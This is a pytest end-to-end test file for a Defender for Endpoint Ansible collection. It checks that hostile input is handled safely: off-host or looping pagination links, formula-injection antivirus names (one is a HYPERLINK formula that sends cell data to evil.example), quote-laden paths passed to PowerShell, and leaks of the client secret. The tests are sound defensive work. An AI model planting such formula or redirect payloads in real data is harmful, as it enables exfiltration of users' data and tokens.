"""More hostile input, end to end: what the Defender API, the hosts or the operator hand the collection.

* ``@odata.nextLink`` (the fake cloud's ``next_link`` fault): a link to ``http://`` or to another host is
  not followed and nothing (no bearer token) is sent there; a page that links to itself ends at once
  with a clear ``api_error``, also in the rollout's step 7; a link that is not a string is an
  ``api_error`` that quotes it, never a crash;
* an antivirus display name that starts with ``=``, ``+``, ``-`` or ``@``: the fleet report's CSV holds
  it neutralised (it cannot start a formula), the JSON and HTML the real name;
* ``win_mde_detection_test`` with a directory holding the typographic single quotes U+2018, U+2019,
  U+201A and U+201B: the documented command names the exact path (the simulated powershell.exe reads
  its strings as PowerShell does); an ASCII quote is refused before the host is touched;
* ``mde_rollout_api_client_secret`` never appears in a rollout's ``-vvv`` output nor in the reports, and a
  secret inside ``mde_rollout_api_options`` given as a string is refused without being quoted.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import socket
import threading
from pathlib import Path

import pytest
from markupsafe import escape

from tests.e2e import cloud_fixtures, test_faults
from tests.e2e.invariants import Invariants
from tests.e2e.test_fault_matrix import cloud_rollout
from tests.e2e.test_faults import ORG, WS
from tests.e2e.test_hostile_input import FLEET as HOSTILE_FLEET
from tests.e2e.test_hostile_input import rollout as hostile_rollout

pytestmark = pytest.mark.e2e
cloud_stand = cloud_fixtures.cloud_stand  # the fixture, used by name
reference = test_faults.reference  # the fixture, used by name

ROOT = Path(__file__).resolve().parents[2]
SECRET = "hostile-Secret-7c2e91d4"
CLIENT = "0c0c0c0c-1111-4222-8333-444444444444"
TENANT = {"org_id": ORG, "clients": [{"client_id": CLIENT, "secret": SECRET}]}
API_FLEET = {
    "defaults": {"third_party_av": [{"name": "CrowdStrike Falcon"}], "reboot_seconds": 1},
    "hosts": {"ws-ok": {"os": "windows11_23h2", "onboarded_org": ORG}},
    "tenant": TENANT,
}


# ============================================================ @odata.nextLink
class Listener:
    """A TCP port on loopback that records every connection and the first bytes sent to it."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _addr = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


LOOKUP = cloud_fixtures.api_play(
    "localhost",
    """
    - name: look up a host
      mdeops.defender.mde_machine_info:
        names: [ws-ok]
        av_info: false
      register: lookup
      ignore_errors: true
""",
)


def lookup_with_next_link(stand, next_link) -> dict:
    """mde_machine_info against a first page whose ``@odata.nextLink`` is ``next_link`` (every page)."""
    stand.cloud.set_faults([{"status": 200, "count": "always", "family": "machines", "next_link": next_link}])
    stand.cloud.reset_counters()
    run = stand.playbook(LOOKUP, name="lookup-%d" % len(stand.outputs))
    assert run.rc == 0, run
    result = run.task("look up a host")
    assert "MODULE FAILURE" not in json.dumps(result) and "Traceback" not in json.dumps(result), brief(result)
    return result


def brief(result: dict) -> str:
    """What a failed assertion shows of a module result: its verdict and message, whole."""
    return json.dumps({k: result.get(k) for k in ("failed", "reason", "msg", "exception")}, indent=1)


def test_next_link_off_the_api_is_never_followed(cloud_stand, listener):
    stand = cloud_stand(API_FLEET, with_winsim=False)
    guard = Invariants(stand, expected_org=ORG, secrets=[SECRET])
    api = stand.cloud.config["api_base_url"]  # https://127.0.0.1:PORT/mde
    cases = {
        # the API's own host and port, without TLS: the token would cross the wire in clear text
        "http, the API's host": api.replace("https://", "http://", 1) + "/api/machines?$skip=1",
        "http, another port": "http://127.0.0.1:%d/mde/api/machines?$skip=1" % listener.port,
        "https, another host": "https://localhost:%d/mde/api/machines?$skip=1" % listener.port,
    }
    for case, link in cases.items():
        result = lookup_with_next_link(stand, link)
        assert result.get("failed") is True and result.get("reason") == "api_error", (case, brief(result))
        assert "another host or scheme" in result["msg"] and "not following it" in result["msg"], (case, brief(result))
        # the first page was read, nothing after it: the fake API saw one listing, the other port nothing
        assert stand.cloud.counters()["requests"].get("machines") == 1, (case, stand.cloud.counters())
        assert listener.received == [], (case, listener.received)
    guard.check(check_mode=True)


def test_self_looping_next_link_ends_with_a_clear_reason(cloud_stand):
    stand = cloud_stand(API_FLEET, with_winsim=False)
    guard = Invariants(stand, expected_org=ORG, secrets=[SECRET])
    # the page links to the request that returned it: a listing that would never end
    result = lookup_with_next_link(stand, "{self}")
    assert result.get("failed") is True and result.get("reason") == "api_error", brief(result)
    assert "repeats a page already read" in result["msg"] and "never end" in result["msg"], result["msg"]
    assert stand.cloud.counters()["requests"].get("machines") == 1, stand.cloud.counters()
    guard.check(check_mode=True)


@pytest.mark.parametrize("link", [42, {"href": "{self}"}, ["{self}"], True], ids=["number", "object", "list", "bool"])
def test_non_string_next_link_is_an_api_error(cloud_stand, link):
    stand = cloud_stand(API_FLEET, with_winsim=False)
    result = lookup_with_next_link(stand, link)
    assert result.get("failed") is True and result.get("reason") == "api_error", brief(result)
    assert "@odata.nextLink is" in result["msg"] and "not a URL" in result["msg"], result["msg"]
    assert json.dumps(link) in result["msg"] or repr(link) in result["msg"], result["msg"]


def test_self_looping_next_link_in_the_rollouts_edr_confirmation(cloud_stand, reference):
    """Step 7 of the real rollout: the wave's device lookup meets the loop; every host of the wave gets the
    API's verdict (api_error at confirm_edr) and is otherwise exactly as after a fault-free rollout."""
    loop = [{"status": 200, "count": "always", "family": "machines", "next_link": "{self}"}]
    stand, run = cloud_rollout(cloud_stand, {}, api_faults=loop)
    assert run.rc == 2, run
    for host in ("ok-ws", "ok-srv"):
        record = run.hosts[host]
        assert record["reason"] == "api_error" and record["failed_step"] == "confirm_edr", (host, str(run))
        assert "repeats a page already read" in record["msg"], record["msg"]
        assert record["mode"] == "passive" and record["protected"] is True, record
    assert stand.cloud.counters()["requests"].get("machines") == 1


# ============================================================ formulas in antivirus names
FORMULA_NAMES = {
    "ws-eq": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "ws-plus": "+SUM(1+1) Endpoint",
    "ws-minus": "-2+3 Endpoint Security",
    "ws-at": "@SUM(A1:A9) Antivirus",
}


def test_formula_antivirus_names_are_neutralised_in_the_csv_only(winsim):
    hosts = {
        name: {"os": "windows10_22h2", "onboarded_org": ORG, "third_party_av": [{"name": av}]}
        for name, av in FORMULA_NAMES.items()
    }
    sim = winsim({"defaults": {"reboot_seconds": 1}, "hosts": hosts})
    reports = Path(sim.base) / "reports"
    guard = Invariants(sim, expected_org=ORG)
    rc, out, err = sim.playbook(
        ROOT / "playbooks" / "verify.yml",
        extra_vars={"mde_targets": "windows", "mde_verify_expected_org_id": ORG, "mde_report_dir": str(reports)},
    )
    guard.check(out, err, check_mode=True, report_dir=reports)
    assert rc == 0, out[-4000:] + err[-2000:]
    report = json.loads((reports / "verify-report.json").read_text(encoding="utf-8"))
    by_name = {h["name"]: h for h in report["hosts"]}
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(read_csv(reports)))}
    html = (reports / "verify-report.html").read_text(encoding="utf-8")
    for host, av in FORMULA_NAMES.items():
        assert by_name[host]["third_party_av"] == [av], by_name[host]  # the JSON: the real name
        assert str(escape(av)) in html, av  # the HTML: the real name, escaped for HTML
        cell = rows[host]["third_party_av"]
        assert cell == "'" + av, cell  # the CSV: the same text, which a spreadsheet reads as text
    for row in csv.reader(io.StringIO(read_csv(reports))):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), row


def read_csv(reports: Path) -> str:
    return (reports / "verify-report.csv").read_text(encoding="utf-8")


# ============================================================ typographic quotes in the detection test
#: All four typographic single quotes PowerShell ends a single-quoted string at.
QUOTED_DIRECTORY = "C:\\O\u2019Brien \u2018test\u201a \u201b"


def test_detection_test_directory_with_typographic_quotes(winsim):
    sim = winsim({"defaults": {"reboot_seconds": 1}, "hosts": {"ws": {**copy.deepcopy(WS), "onboarded_org": ORG}}})
    guard = Invariants(sim, expected_org=ORG)
    results = sim.module(
        "ws", "mdeops.defender.win_mde_detection_test", {"directory": QUOTED_DIRECTORY, "stop_after": 1}
    )
    result = results["ws"]
    assert not result.get("failed"), brief(result)
    assert result["ran"] and result["onboarded"], brief(result)
    # the documented command (doubled backslashes) with each quote doubled: one literal quote to PowerShell
    escaped = QUOTED_DIRECTORY.replace("\\", "\\\\")
    for quote in "\u2018\u2019\u201a\u201b":
        escaped = escaped.replace(quote, quote * 2)
    assert "'%s\\\\invoice.exe'" % escaped in result["command_line"], result["command_line"]
    # what the simulated host's powershell.exe (and so the sensor) read: the exact path
    tests = sim.state("ws")["mde"]["detection_tests"]
    assert len(tests) == 1 and tests[0]["target"] == QUOTED_DIRECTORY.replace("\\", "\\\\") + "\\\\invoice.exe", tests
    # the directory the module made for the test existed under its exact name and is gone again
    assert result["directory_created"] and result["directory_removed"], result
    assert QUOTED_DIRECTORY.lower() not in sim.state("ws")["files"]
    guard.check()

    # an ASCII quote is refused before the host is touched (the module's documented validation)
    before = sim.module_runs("ws")
    refused = sim.module("ws", "mdeops.defender.win_mde_detection_test", {"directory": "C:\\O'Brien"})["ws"]
    assert refused["failed"] and refused["reason"] == "invalid_argument", refused
    assert "no quotes" in refused["msg"], refused["msg"]
    assert sim.module_runs("ws") == before


# ============================================================ the API client secret at -vvv
def test_api_client_secret_never_in_verbose_rollout_output(cloud_stand, reference):
    """A rollout with EDR confirmation (the secret is used: step 7 signs in) at -vvv, with the modules'
    invocation injected: the secret is in neither stdout, stderr nor any report file."""
    stand, run = cloud_rollout(cloud_stand, {}, "-vvv", tenant=TENANT, env={"ANSIBLE_INJECT_INVOCATION": "1"})
    assert run.rc == 0, run
    for host in ("ok-ws", "ok-srv"):
        assert run.hosts[host]["steps"]["confirm_edr"] == "ok", run.hosts[host]  # the secret was used
    assert stand.cloud.counters()["requests"].get("token", 0) >= 1
    assert SECRET not in run.out and SECRET not in run.err
    # the verbose output really holds the modules' arguments: step 7's shows the secret masked
    assert "VALUE_SPECIFIED_IN_NO_LOG_PARAMETER" in run.out and '"client_secret"' in run.out
    for path in Path(run.report_dir).rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_text(encoding="utf-8", errors="replace"), path


def test_api_options_given_as_a_string_are_refused_without_echoing_them(winsim):
    """``-e 'mde_rollout_api_options={"client_secret": ...}'`` is a string, not a dictionary: the pre-flight
    refuses it before any host is touched, and its message names the variable and the fix, not the text
    (which holds the secret)."""
    sim = winsim(HOSTILE_FLEET)
    guard = Invariants(sim, expected_org=ORG, secrets=[SECRET])
    options = json.dumps({"client_secret": SECRET, "client_id": CLIENT})
    rc, out, hosts = hostile_rollout(sim, {"mde_rollout_api_options": options}, name="options")
    guard.check(out, check_mode=True, report_dir=Path(sim.base) / "reports-options")
    assert rc not in (0, 250), out[-3000:]
    refused = [r for r in hosts.values() if r["outcome"] == "refused"]
    assert refused, hosts
    for record in refused:
        assert record["reason"] == "invalid_argument", record
        assert "mde_rollout_api_options is a string" in record["msg"] and "not a dictionary" in record["msg"], record
